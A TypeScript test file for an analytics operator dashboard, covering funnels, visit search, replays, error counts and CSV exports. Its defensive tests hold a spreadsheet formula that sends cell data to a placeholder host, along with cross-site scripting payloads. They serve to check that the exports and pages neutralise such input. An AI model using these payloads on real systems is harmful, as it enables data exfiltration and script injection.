import { collect } from '@fyh/contract/trace.ts'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { host, mobileIndex, openOperator, type TestOperator } from '../test-operator.ts'

let operator: TestOperator
let get: Awaited<ReturnType<TestOperator['enter']>>['get']
let cookie: string

beforeAll(async () => {
  operator = await openOperator()
  const entered = await operator.enter()
  get = entered.get
  cookie = entered.cookie
})
afterAll(() => operator.close())
beforeEach(() =>
  operator.pool.query(
    'truncate counts_to_add, event, undated_event, person, browser_user, visit, event_count, error_count, funnel_count, exit_count, step_time, minute_count, refusal_count',
  ),
)

/** The rows of a table as texts, without markup. */
async function rowsOf(url: string, table: string): Promise<string[][]> {
  const { body, statusCode } = await get(url)
  expect(statusCode, url).toBe(200)
  const [, rest = ''] = body.split(`<table id="table-${table}"`)
  const [, tbody = ''] = (rest.split('</table>')[0] ?? '').split('<tbody')
  return [...tbody.matchAll(/<tr[^>]*>(.*?)<\/tr>/gs)].map(([, row = '']) =>
    [...row.matchAll(/<t[hd][^>]*>(.*?)<\/t[hd]>/gs)].map(([, cell = '']) => cell.replace(/<[^>]*>/g, '')),
  )
}

async function fileOf(url: string): Promise<string[]> {
  const { body, statusCode, headers } = await get(url)
  expect(statusCode, url).toBe(200)
  expect(headers['content-type']).toBe('text/csv; charset=utf-8')
  expect(body.startsWith('\uFEFF')).toBe(true)
  return body.slice(1).split('\r\n')
}

const from = (browser: string, event: Readonly<Record<string, unknown>> = {}) => ({
  generateId: browser,
  traceId: `visit-${browser}`,
  channel: 'fyh',
  brand: 'fyh',
  host: 'browser',
  ...event,
})
const nextDay = () => operator.clock.machineNow().getTime() + 80_000_000
const reach = (step: string) => ({ event: `reach_${step}`, action: 'reach', userId: '7' })

describe('the funnel', () => {
  test('people are counted at every step, with their share of the first and of the step before', async () => {
    await operator.send(
      from('a'),
      from('b'),
      from('c', { userId: '7' }),
      from('d', reach('identity')),
      from('d', reach('identity')),
      from('d', reach('profile')),
    )
    expect((await rowsOf('/operator/funnel', 'funnel')).slice(0, 5)).toEqual([
      ['Landing', '4', '100.0%', '100.0%', '0'],
      ['Login', '2', '50.0%', '50.0%', '2'],
      ['Identity', '1', '25.0%', '50.0%', '1'],
      ['Profile', '1', '25.0%', '100.0%', '0'],
      ['Limit', '0', '0.0%', '0.0%', '1'],
    ])
  })

  test('the share of the step before is that of the same browsers, and never above all of them', async () => {
    await operator.send(
      from('a', reach('profile')),
      from('b', reach('limit')),
      from('c', reach('limit')),
      from('d', reach('limit')),
      from('d', reach('profile')),
    )
    expect((await rowsOf('/operator/funnel', 'funnel')).slice(3, 6)).toEqual([
      ['Profile', '2', '50.0%', '–', '0'],
      ['Limit', '3', '75.0%', '50.0%', '1'],
      ['Borrow', '0', '0.0%', '0.0%', '3'],
    ])
  })

  test('it is asked by channel, brand, host and days, each alone and together, and split by each', async () => {
    await operator.send(from('a'), from('b', { channel: 'partner', host: 'messenger' }), from('c', { brand: 'fbd' }))
    await operator.send(
      from('d', { at: nextDay(), channel: '', brand: '', host: '' }),
      from('e', { at: nextDay(), ...reach('paidOut'), channel: 'partner' }),
    )
    const landed = async (query: string) => (await rowsOf(`/operator/funnel?${query}`, 'funnel'))[0]?.[1]
    const days = 'from=2026-11-27&to=2026-11-28'
    expect(await landed(days)).toBe('5')
    expect(await landed(`${days}&channel=partner`)).toBe('2')
    expect(await landed(`${days}&channel=partner&host=messenger`)).toBe('1')
    expect(await landed(`${days}&brand=fbd`)).toBe('1')
    expect(await landed(`${days}&channel=-`)).toBe('1')
    expect(await landed('from=2026-11-28&to=2026-11-28')).toBe('2')
    const split = async (by: string) =>
      (await rowsOf(`/operator/funnel?${days}&by=${by}`, 'funnel-split')).map((row) => [row[0], row[1], row.at(-1)])
    expect(await split('channel')).toEqual([
      ['fyh', '2', '0.0%'],
      ['partner', '2', '50.0%'],
      ['(not reported)', '1', '0.0%'],
    ])
    expect((await split('host')).map(([host]) => host)).toEqual(['browser', '(not reported)', 'messenger'])
    expect(await split('day')).toEqual([
      ['2026-11-28', '2', '50.0%'],
      ['2026-11-27', '3', '0.0%'],
    ])
  })

  test('R9.2 split by channel, a browser counts at every step up to the paid-out loan with the channel of its first visit', async () => {
    const later = { at: nextDay() }
    await operator.send(
      from('a', { channel: 'demo-trip', page: 'extend', event: 'init', action: 'init' }),
      from('b', { channel: 'FYH-mini' }),
    )
    for (const step of ['identity', 'profile', 'limit', 'borrow', 'signed', 'paidOut'])
      await operator.send(from('a', { ...reach(step), ...later }))
    const rows = await rowsOf('/operator/funnel?from=2026-11-27&to=2026-11-28&by=channel', 'funnel-split')
    expect(rows).toEqual([
      ['FYH-mini', '1', '0', '0', '0', '0', '0', '0', '0', '0.0%'],
      ['demo-trip', '1', '1', '1', '1', '1', '1', '1', '1', '100.0%'],
    ])
  })

  test('R3.1 a login that came with a token counts once the page knows whose it is', async () => {
    await operator.send(from('a'), from('b'))
    await operator.send(from('a', { event: 'login_known', action: 'login', userId: '7' }))
    expect((await rowsOf('/operator/funnel', 'funnel'))[1]).toEqual(['Login', '1', '50.0%', '50.0%', '1'])
  })

  test('a channel of which an earlier event took everybody away is none to choose, nor a row', async () => {
    await operator.send(from('a', { channel: 'left' }))
    expect((await get('/operator/funnel')).body).toContain('<option value="left">')
    await operator.send(from('a', { channel: 'partner', at: operator.clock.machineNow().getTime() - 60_000 }))
    expect((await rowsOf('/operator/funnel?by=channel', 'funnel-split')).map(([channel]) => channel)).toEqual(['partner'])
    expect((await get('/operator/funnel')).body).not.toContain('<option value="left">')
  })

  test('without anybody it says so, and shows neither chart nor file', async () => {
    const { body } = await get('/operator/funnel?channel=nobody')
    expect(body.match(/No data in this selection/g)).toHaveLength(2)
    expect(body).not.toMatch(/<canvas|files\//)
    expect(body).toContain('<option value="nobody" selected>nobody</option>')
  })

  test('the switch of the language and the other pages keep what is asked', async () => {
    await operator.send(from('a'))
    const { body } = await get('/operator/funnel?from=2026-11-27&to=2026-11-27&channel=fyh&by=host')
    expect(body).toContain('href="/operator/exits?from=2026-11-27&amp;to=2026-11-27&amp;channel=fyh&amp;by=host"')
    expect(body).toContain('href="/operator/funnel?from=2026-11-27&amp;to=2026-11-27&amp;channel=fyh&amp;by=host&amp;lang=zh-CN"')
  })
})

describe('pages and errors', () => {
  test('drop-off counts the visits that ended on a page beside its views', async () => {
    await operator.send(
      from('a', { page: 'home' }),
      from('a', { page: 'login' }),
      from('b', { page: 'home' }),
      from('b', { page: 'home', event: 'tap' }),
    )
    expect(await rowsOf('/operator/exits', 'exits')).toEqual([
      ['home', '2', '1', '50.0%', '50.0%'],
      ['login', '1', '1', '100.0%', '50.0%'],
    ])
  })

  test('errors are counted by name and page; their samples lead to the visit', async () => {
    const fault = { event: 'page_error', action: 'error', page: 'home' }
    await operator.send(
      from('a', { ...fault, content: 'TypeError: one' }),
      from('b', { ...fault, content: 'TypeError: two', page: 'loan' }),
      from('c', { ...fault, content: 'TypeError: three' }),
      from('c', { event: 'call_http', action: 'error', page: 'home', content: '/fyh/app/loan' }),
    )
    expect(await rowsOf('/operator/errors', 'errors')).toEqual([
      ['TypeError', 'page_error', 'home', '2'],
      ['/fyh/app/loan', 'call_http', 'home', '1'],
      ['TypeError', 'page_error', 'loan', '1'],
    ])
    const samples = await rowsOf('/operator/errors/samples?event=page_error&name=TypeError&page=home', 'error-samples')
    expect(samples.map(([, content, visit]) => [content, visit]).toSorted()).toEqual([
      ['TypeError: one', 'visit-a'],
      ['TypeError: three', 'visit-c'],
    ])
    const { body } = await get('/operator/errors/samples?event=page_error&name=TypeError&page=loan')
    expect(body).toContain('href="/operator/visits/replay?trace=visit-b&amp;browser=b"')
  })

  test('a failed call is named with its place, ids and all, and what it was refused with', async () => {
    const call = (content: string) => from('a', { event: 'call_business', action: 'error', page: 'signAgreement', content })
    await operator.send(
      call('/fyh/app/loan/quote/:id QUOTE_OUTDATED: a request'),
      call('/fyh/app/loan/quote/:id QUOTE_OUTDATED: another'),
      call('/fyh/app/loan/quote/:id NOT_FOUND'),
    )
    expect((await rowsOf('/operator/errors', 'errors')).map(([name, , , times]) => [name, times])).toEqual([
      ['/fyh/app/loan/quote/:id QUOTE_OUTDATED', '2'],
      ['/fyh/app/loan/quote/:id NOT_FOUND', '1'],
    ])
    const asked = new URLSearchParams({ event: 'call_business', page: 'signAgreement', name: '/fyh/app/loan/quote/:id QUOTE_OUTDATED' })
    expect(await rowsOf(`/operator/errors/samples?${asked}`, 'error-samples')).toHaveLength(2)
  })

  const form = (ms: number, event: Readonly<Record<string, unknown>> = {}) =>
    from('a', { event: 'form_time', action: 'form', page: 'login', content: JSON.stringify({ ms, fields: 2 }), ...event })

  test('times are the median and the ninth tenth from buckets, by page', async () => {
    await operator.send(...Array.from({ length: 8 }, () => form(4_000)), form(50_000), form(2_000_000, { channel: 'partner' }))
    expect(await rowsOf('/operator/times', 'times')).toEqual([['login', '10', '4.3 s', '60 s', '45–60 s']])
    expect(await rowsOf('/operator/times?channel=partner', 'times')).toEqual([['login', '1', '–', '–', 'over 1,800 s']])
  })

  test('times are asked by channel, brand, host and days, alone and together, and split by each, of one page or of all', async () => {
    await operator.send(
      form(500),
      form(500, { host: 'messenger', page: 'loan' }),
      form(500, { brand: 'fbd', host: 'messenger' }),
      form(500, { at: nextDay() }),
    )
    const days = 'from=2026-11-27&to=2026-11-28'
    const counted = async (query: string, table = 'times') =>
      (await rowsOf(`/operator/times?${days}&${query}`, table)).map((row) => row.slice(0, table === 'times' ? 2 : 3))
    expect(await counted('host=messenger')).toEqual([
      ['loan', '1'],
      ['login', '1'],
    ])
    expect(await counted('host=messenger&brand=fbd')).toEqual([['login', '1']])
    expect(await counted('by=host', 'times-split')).toEqual([
      ['browser', 'login', '2'],
      ['messenger', 'loan', '1'],
      ['messenger', 'login', '1'],
    ])
    expect(await counted('by=brand&page=login', 'times-split')).toEqual([
      ['fyh', 'login', '2'],
      ['fbd', 'login', '1'],
    ])
    expect(await counted('by=day&page=login', 'times-split')).toEqual([
      ['2026-11-28', 'login', '1'],
      ['2026-11-27', 'login', '2'],
    ])
    const { body } = await get(`/operator/times?${days}&by=day&page=login`)
    expect(body).toContain('Split: by day · login')
    expect(body).toContain('<input type="checkbox" name="page" value="login" checked>')
    expect((await fileOf(`/operator/files/times-split.csv?${days}&by=day&page=login`))[1]).toBe(
      '"2026-11-28","login","1","500","900","0–1 s"',
    )
  })
})

describe('visits', () => {
  const visitsOf = async (query: string) => (await rowsOf(`/operator/visits?${query}`, 'visits')).map((row) => row.at(-1))
  const visitsIn = (body: string) => [...body.matchAll(/replay\?trace=visit-\w+&amp;browser=(\w+)/g)].map(([, browser = '']) => browser)
  const linkOf = (body: string, rel: 'next' | 'prev') =>
    new RegExp(`rel="${rel}" href="([^"]*)"`).exec(body)?.[1]?.replaceAll('&amp;', '&') ?? ''

  test('are found by user, by phone number, by their id and by day, the newest first', async () => {
    await operator.send(from('a', { userId: '7' }), from('b', { mobile: '13800000001' }))
    await operator.send(from('c', { at: nextDay(), userId: '7' }))
    expect(await visitsOf('')).toEqual(['visit-c', 'visit-b', 'visit-a'])
    expect(await visitsOf('user=7')).toEqual(['visit-c', 'visit-a'])
    expect(await visitsOf('user=70')).toEqual([])
    expect(await visitsOf('trace=visit-b')).toEqual(['visit-b'])
    expect(await visitsOf('from=2026-11-28&to=2026-11-28')).toEqual(['visit-c'])
    expect(await visitsOf('from=2026-11-28&to=2026-11-28&trace=visit-a')).toEqual([])
  })

  test('with two people in them are found under each, by user and by phone number, and name both', async () => {
    await operator.send(from('a', { userId: '7', mobile: '13800000007' }), from('a', { userId: '9', mobile: '13800000009' }))
    await operator.send(from('a', { traceId: 'visit-9', userId: '9', mobile: '13800000009' }), from('b', { at: nextDay(), userId: '8' }))
    await operator.send(
      from('a', { traceId: 'visit-night', at: nextDay(), userId: '7' }),
      from('a', { traceId: 'visit-night', userId: '9' }),
    )
    for (const [query, found] of [
      ['user=7', ['visit-night', 'visit-a']],
      ['user=9', ['visit-night', 'visit-9', 'visit-a']],
      ['user=8', ['visit-b']],
      [`phone=${mobileIndex('13800000007')}`, ['visit-a']],
      [`phone=${mobileIndex('13800000009')}`, ['visit-9', 'visit-a']],
      [`user=7&phone=${mobileIndex('13800000009')}`, ['visit-a']],
      ['user=7&trace=visit-9', []],
    ] as const)
      expect((await visitsOf(query)).toSorted(), query).toEqual(found.toSorted())
    const shown = async (query: string) => (await rowsOf(`/operator/visits?${query}`, 'visits')).map(([, user, phone]) => [user, phone])
    expect(await shown('user=7&trace=visit-a')).toEqual([['7, 9', '138****0007, 138****0009']])
    expect(await shown('user=9&trace=visit-a')).toEqual([['9', '138****0009']])
    expect((await fileOf('/operator/files/visits.csv?user=7&trace=visit-a'))[1]).toContain('"7, 9"')
  })

  test('PS-02 a phone number is asked for in a form, and only its blind index stands in the address', async () => {
    await operator.send(from('a', { mobile: '13800000001' }), from('b', { mobile: '13800000002' }))
    const { statusCode, headers } = await operator.form('/operator/visits/by-phone', { phone: ' 138 0000 0002 ' }, { cookie })
    expect(statusCode).toBe(303)
    expect(headers.location).toBe(`/operator/visits?phone=${mobileIndex('13800000002')}`)
    const { body } = await get(String(headers.location))
    expect(body).toContain('138****0002')
    expect(body).not.toMatch(/13800000002|138\*\*\*\*0001/)
    const wrong = await operator.form('/operator/visits/by-phone', { phone: '12345' }, { cookie, 'accept-language': 'en-US' })
    expect(wrong.statusCode).toBe(400)
    expect(wrong.body).toContain('Phone number isn’t a valid phone number.')
  })

  test('a number of which only the mask was sent finds nothing, and the page says why', async () => {
    await operator.send(from('a', { mobile: '138****0002' }))
    const { headers } = await operator.form('/operator/visits/by-phone', { phone: '13800000002' }, { cookie })
    expect((await get(String(headers.location))).body).toContain('Browsers send only a mask')
    expect((await get('/operator/visits?user=nobody')).body).not.toContain('Browsers send only a mask')
  })

  test('a replay lists the events of one visit in the order they happened, with the times between', async () => {
    const at = operator.clock.machineNow().getTime()
    await operator.send(
      from('a', { at: at + 61_500, page: 'login', event: 'tap_main', action: 'tap' }),
      from('a', { at, page: 'home' }),
      from('b', { at: at + 1_000 }),
      from('a', { at: at + 1_500, page: 'login', note: { shown: 'yes' } }),
    )
    expect(await rowsOf('/operator/visits/replay?trace=visit-a&browser=a', 'replay')).toEqual([
      ['2026-11-27 10:00:00', '–', 'home', 'page_load', 'pageLoad', '–', '–'],
      ['2026-11-27 10:00:01', '1.5 s', 'login', 'page_load', 'pageLoad', '–', '{&quot;note&quot;:{&quot;shown&quot;:&quot;yes&quot;}}'],
      ['2026-11-27 10:01:01', '60 s', 'login', 'tap_main', 'tap', '–', '–'],
    ])
  })

  test('the report of the server is part of a visit, with the id of its browser or without, and neither ends it nor takes its brand', async () => {
    const at = operator.clock.machineNow().getTime()
    const report = { page: '', event: 'app_report', action: 'appReport', brand: '', host: '', traceId: 'visit-a' }
    await operator.send(from('', { ...report, at: at - 1_000 }), from('a', { ...report, at: at + 9_000 }))
    expect(await visitsOf('')).toEqual([])
    await operator.send(
      from('a', { at, page: 'home' }),
      from('a', { ...report, at: at + 90_000_000 }),
      from('', { ...report, at: at + 2_000 }),
    )
    const rows = await rowsOf('/operator/visits', 'visits')
    expect(rows.map((row) => [row[5], row[7], row[8]])).toEqual([['home', 'fyh', 'browser']])
    expect(await rowsOf('/operator/exits', 'exits')).toEqual([['home', '1', '1', '100.0%', '100.0%']])
    expect((await rowsOf('/operator/funnel?brand=fyh&host=browser', 'funnel'))[0]?.[1]).toBe('1')
    const replayed = await rowsOf('/operator/visits/replay?trace=visit-a&browser=a', 'replay')
    expect(replayed.map((row) => row[3])).toEqual(['app_report', 'page_load', 'app_report', 'app_report', 'app_report'])
    expect(await rowsOf('/operator/visits/replay?trace=visit-a&browser=', 'replay')).toHaveLength(2)
  })

  test('a visit over midnight is replayed whole', async () => {
    const at = new Date('2026-11-26T23:59:30+08:00').getTime()
    await operator.send(from('a', { at, page: 'home' }), from('a', { at: at + 60_000, page: 'login' }))
    expect((await rowsOf('/operator/visits/replay?trace=visit-a&browser=a', 'replay')).map((row) => row[2])).toEqual(['home', 'login'])
  })

  test('a visit that there is not says why that may be', async () => {
    expect((await get('/operator/visits/replay?trace=nothing&browser=nobody')).body).toContain('No events for this visit')
  })

  test('ten stand on a page, and one leads to the next and back', async () => {
    await operator.send(...Array.from({ length: 23 }, (_, at) => from(`browser${at}`)))
    const first = await get('/operator/visits?user=')
    expect(first.body).toContain('Rows 1–10')
    expect(first.body).not.toContain('rel="prev"')
    const second = await get(linkOf(first.body, 'next'))
    const last = await get(linkOf(second.body, 'next'))
    expect(last.body).toContain('Rows 21–23')
    expect(last.body).not.toContain('rel="next"')
    const back = await get(linkOf(last.body, 'prev'))
    expect(visitsIn(back.body)).toEqual(visitsIn(second.body))
    expect(back.body).toContain('Rows 11–20')
    expect(visitsIn((await get(linkOf(back.body, 'prev'))).body)).toEqual(visitsIn(first.body))
    expect(new Set([first, second, last].flatMap(({ body }) => visitsIn(body))).size).toBe(23)
  })

  test('NF-02 a visit that arrives between two pages neither repeats nor hides another, and a broken key is a named fault', async () => {
    await operator.send(...Array.from({ length: 13 }, (_, at) => from(`browser${at}`)))
    const first = await get('/operator/visits')
    await operator.send(from('later', { at: operator.clock.machineNow().getTime() + 60_000 }))
    const second = await get(linkOf(first.body, 'next'))
    const seen = [...visitsIn(first.body), ...visitsIn(second.body)]
    expect(seen).toHaveLength(13)
    expect(new Set(seen).size).toBe(13)
    expect((await get('/operator/visits?nr=2&after=x')).statusCode).toBe(400)
    expect((await get(`/operator/visits?nr=2&after=${Buffer.from('["2026-02-30","1","a","b"]').toString('base64url')}`)).statusCode).toBe(
      200,
    )
  })
})

describe('the overview', () => {
  test('counts today in Beijing, and the last sixty minutes one by one', async () => {
    const at = operator.clock.machineNow().getTime()
    await operator.send(
      from('a', { at }),
      from('a', { at: at - 60_000, event: 'page_error', action: 'error' }),
      from('b', { at: at - 10 * 3_600_000 }),
      from('c', { at: at - 11 * 3_600_000 }),
    )
    const { body } = await get('/operator')
    const figures = [...body.matchAll(/<dd>(.*?)<\/dd>/g)].map(([, figure]) => figure)
    expect(figures).toEqual(['running', '3', '2', '2', '1', '0', '0'])
    const minutes = await rowsOf('/operator', 'minutes')
    expect(minutes).toHaveLength(60)
    expect(minutes.slice(-3)).toEqual([
      ['2026-11-27 09:58:00', '0'],
      ['2026-11-27 09:59:00', '1'],
      ['2026-11-27 10:00:00', '1'],
    ])
  })

  test('values that were refused are counted by what they were', async () => {
    await operator.send(from('a', { content: 'to me@example.com' }))
    expect(await rowsOf('/operator', 'refusals')).toEqual([['email address', 'content', '1']])
  })
})

describe('what is wrong', () => {
  test('a wrong filter is answered by naming every faulty field, with what stands in each, and by nothing else', async () => {
    for (const page of ['funnel', 'exits', 'errors', 'times', 'visits', 'forget', 'operators', 'files/visits.csv', 'files/funnel.csv']) {
      const { statusCode, body } = await get(`/operator/${page}?from=banana&to=2026-11-31&by=%3Cb%3E&channel=%3Ci%3E`)
      expect(statusCode, page).toBe(400)
      expect([...body.matchAll(/<li id="fault-(\w+)">(.*?)<\/li>/g)].map(([, field, fault]) => [field, fault])).toEqual([
        ['from', 'From isn’t a valid date. Use a date like 2026-11-28.'],
        ['to', 'To isn’t a valid date. Use a date like 2026-11-28.'],
        ['by', 'Split by isn’t one of the options.'],
      ])
      expect(body).toMatch(/name="from"[^>]* value="banana" aria-invalid="true" aria-describedby="fault-from"/)
      expect(body).toMatch(/name="to"[^>]* value="2026-11-31"/)
      expect(body).toMatch(/name="by"[^>]* value="&lt;b&gt;"/)
      expect(body).toContain('<input type="hidden" name="channel" value="&lt;i&gt;">')
      expect(body).not.toMatch(/<b>|<i>|<table/)
    }
    expect((await get('/operator/visits?nr=x')).body).toContain('Page number isn’t a whole number from 1 to 500.')
    expect((await get('/operator/visits?user=a%00b')).body).toMatch(/name="user"[^>]* value="ab"/)
    expect((await get('/operator/funnel?from=2026-11-31', { 'accept-language': 'zh-CN' })).body).toContain('开始日期：不是有效日期')
  })

  test('a page that there is not is told so', async () => {
    const { statusCode, body } = await get('/operator/nothing')
    expect([statusCode, body.includes('Page not found')]).toEqual([404, true])
  })

  test('a question that takes too long is ended, and says what to do', async () => {
    await operator.pool.query(
      `alter table funnel_count rename to hidden; create view funnel_count as select * from hidden where pg_sleep(9) is not null`,
    )
    await operator.pool.query(`insert into hidden values ('2026-11-27', 'fyh', 'fyh', 'browser', 'landing', 1)`)
    try {
      await operator.withHastyAnswers(async (hasty) => {
        const ask = (url: string) => hasty.inject({ url, headers: { host, cookie, 'accept-language': 'en-US' } })
        const { statusCode, body } = await ask('/operator/funnel')
        expect([statusCode, body.includes('The query timed out')]).toEqual([503, true])
        const file = await ask('/operator/files/funnel.csv')
        expect([file.statusCode, file.headers['content-type']]).toEqual([503, 'text/html'])
      })
    } finally {
      await operator.pool.query('drop view funnel_count; alter table hidden rename to funnel_count')
    }
  })
})

test('R1.4 questions that wait for a connection keep no event waiting', async () => {
  await operator.withHastyAnswers(async (trace, answers) => {
    const held = await Promise.all([answers.connect(), answers.connect(), answers.connect()])
    let isAnswered = false
    const page = trace.inject({ url: '/operator/exits', headers: { host, cookie } }).then(() => {
      isAnswered = true
    })
    await expect.poll(() => answers.waitingCount).toBeGreaterThan(0)
    const stored = await trace.inject({ method: 'POST', url: collect.trace.path, payload: collect.trace.example.body })
    expect([stored.json().data.stored, isAnswered]).toEqual([1, false])
    for (const client of held) client.release()
    await page
  })
})

test('R1.4 a page is answered while more counts wait than can be added at once', async () => {
  const { pool } = operator
  await pool.query(`create function rests() returns trigger language plpgsql as $$ begin perform pg_sleep(0.4); return new; end $$;
    create trigger rests before insert on minute_count for each row execute function rests()`)
  try {
    await pool.query(`insert into counts_to_add (counts)
      select jsonb_build_object('minute_count.minute', '{"2026-11-27T01:00Z"}'::text[], 'minute_count.count', '{1}'::text[], 'nothing', repeat('x', 4000000))
      from generate_series(1, 15)`)
    const { statusCode } = await operator.app.inject({ url: '/operator/exits', headers: { host, cookie } })
    const { rows } = await pool.query<{ waiting: number }>('select count(*)::integer as waiting from counts_to_add')
    expect(statusCode).toBe(200)
    expect(rows[0]?.waiting).toBeGreaterThan(0)
  } finally {
    await pool.query('truncate counts_to_add; drop trigger rests on minute_count; drop function rests; truncate minute_count')
  }
})

describe('files', () => {
  test('hold all rows of what a page shows ten of, whatever the language', async () => {
    await operator.send(...Array.from({ length: 23 }, (_, at) => from(`browser${at}`)))
    const lines = await fileOf('/operator/files/visits.csv')
    expect(lines).toHaveLength(25)
    expect(lines[0]).toMatch(/^"Start","Last event","User ID"/)
    expect(lines.at(-1)).toBe('')
    expect((await get('/operator/files/visits.csv', { 'accept-language': 'zh-CN' })).body).toContain('"开始","最后事件"')
    const { headers } = await get('/operator/files/visits.csv')
    expect(headers['content-disposition']).toBe('attachment; filename="visits-2026-11-27.csv"')
  })

  test('more than a batch of rows comes whole and in order', async () => {
    await operator.pool.query(
      `insert into funnel_count select '2026-11-27', 'channel' || lpad(i::text, 5, '0'), '', '', 'landing', 1 from generate_series(1, 3200) i`,
    )
    const lines = await fileOf('/operator/files/funnel-split.csv')
    expect(lines.slice(1, -1)).toHaveLength(3_200)
    expect(lines.slice(1, -1)).toEqual(lines.slice(1, -1).toSorted())
  })

  test('no text of an event becomes a formula, a cell or a line of its own', async () => {
    const hostile = ['=HYPERLINK("https://elsewhere.example?"&A1)', ' ＝1+1', '\t@SUM(A1)', 'a","b', 'two\r\nlines', '+86']
    await operator.send(...hostile.map((page, at) => from(`b${at}`, { page })))
    const body = (await fileOf('/operator/files/exits.csv')).join('\r\n')
    const cells = [...body.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))
    const pages = cells.filter((_, at) => at >= 5 && at % 5 === 0)
    expect(pages.toSorted()).toEqual(
      [`'${hostile[0]}`, `'${hostile[1]}`, `'\t'@SUM(A1)`, 'a","b', 'two\r\nlines', `'${hostile[5]}`].toSorted(),
    )
    expect(body.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^(,{4}\r\n)+$/)
  })

  test('one file is made at a time, and one that is not read to its end leaves its place and its connection', async () => {
    await operator.pool.query(
      `insert into funnel_count select '2026-11-27', lpad(i::text, 1000, 'x'), '', '', 'landing', 1 from generate_series(1, 30000) i`,
    )
    const address = await operator.app.listen({ host: '127.0.0.1', port: 0 })
    const reading = new AbortController()
    // Thirty megabytes: more than lies on the way between the two.
    const file = await fetch(`${address}/operator/files/funnel-split.csv`, { headers: { cookie }, signal: reading.signal })
    expect((await file.body?.getReader().read())?.done).toBe(false)
    const second = await get('/operator/files/visits.csv')
    expect([second.statusCode, second.headers['retry-after'], second.body.includes('Another export is running')]).toEqual([503, '5', true])
    reading.abort()
    await expect.poll(async () => (await get('/operator/files/visits.csv')).statusCode).toBe(200)
    await expect.poll(() => operator.pool.totalCount - operator.pool.idleCount).toBe(0)
  })
})

test('nothing that was sent is markup, on any page or in any attribute, though it came by another way than the door', async () => {
  const hostile = '"><script>alert(1)</script><img src=x onerror=alert(1)>\' onmouseover=alert(1) '
  const fault = { page: hostile, event: 'page_error', action: 'error', content: `${hostile}: x`, userAgent: hostile }
  await operator.send(from('a', { page: hostile, content: hostile, [hostile]: hostile }), from('b', fault))
  await operator.pool.query(
    `insert into visit (trace_id, generate_id, day, first_at, first_seq, first_page, last_at, last_seq, last_page, channel, brand, host, user_id, mobile_mask, events)
     values ($1, $1, '2026-11-27', now(), 1, $1, now(), 1, $1, $1, $1, $1, $1, $1, 1)`,
    [hostile],
  )
  await operator.pool.query(`insert into funnel_count values ('2026-11-27', $1, $1, $1, 'landing', 1)`, [hostile])
  await operator.pool.query(`insert into step_time (day, page, channel, brand, host, b0) values ('2026-11-27', $1, $1, $1, $1, 1)`, [
    hostile,
  ])
  await operator.pool.query(`insert into refusal_count values ('2026-11-27', $1, $1, 1)`, [hostile])
  const asked = encodeURIComponent(hostile)
  for (const url of [
    '/operator',
    '/operator/funnel?by=channel',
    `/operator/funnel?channel=${asked}`,
    '/operator/exits',
    '/operator/errors',
    `/operator/errors/samples?event=page_error&name=${encodeURIComponent(hostile.slice(0, 80))}&page=${asked}`,
    '/operator/times',
    '/operator/visits',
    `/operator/visits?user=${asked}&trace=${asked}`,
    '/operator/visits/replay?trace=visit-a&browser=a',
    `/operator/login?next=${asked}`,
    `/operator/funnel?by=${asked}`,
    `/operator/nothing?${asked}`,
  ]) {
    const { body } = await get(url)
    expect(body, url).not.toMatch(/<script>|<img|"\s*onmouseover/)
  }
})
